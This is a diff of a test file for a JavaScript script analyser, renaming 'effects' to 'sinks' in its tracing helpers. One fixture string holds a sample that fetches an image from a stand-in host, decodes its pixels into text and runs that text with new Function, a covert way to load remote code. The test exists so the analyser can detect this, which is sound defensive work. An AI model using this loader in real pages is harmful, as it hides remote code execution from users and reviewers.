@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
 import { type Carrier, expectHarmlessOnOwnSite, expectHarmlessWithoutSecret, expectLeak } from "../testing/carriers.ts";
-import { effectsOf, traceOf } from "../testing/trace-of.ts";
+import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const CANVAS = `const canvas = document.createElement("canvas"), pen = canvas.getContext("2d");`;
 
@@ -95,7 +95,7 @@ describe("what is painted", () => {
 	test("a stranger's picture is a stranger's data", () => {
 		const code = `${CANVAS} const image = new Image(); image.src = "https://c.test/a.png";
 			image.decode().then(() => image).then((shown) => { pen.drawImage(shown, 0, 0); const { data } = pen.getImageData(0, 0, 9, 9); let text = ""; for (let at = 0; at < data.length; at += 4) text += String.fromCharCode(data[at]); new Function(text)(); });`;
-		expect(effectsOf(code)).toContainEqual(expect.stringMatching(/^run-code Function < .*code remote/));
+		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^run-code Function < .*code remote/));
 	});
 
 	test.each([
@@ -132,7 +132,7 @@ describe("servers of a peer connection", () => {
 	});
 
 	test("a public server is told nothing", () => {
-		const { effects } = traceOf(`new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.c.test" }] });`);
-		expect(effects.flatMap(({ carried }) => carried)).toEqual([]);
+		const { sinks } = traceOf(`new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.c.test" }] });`);
+		expect(sinks.flatMap(({ carried }) => carried)).toEqual([]);
 	});
 });
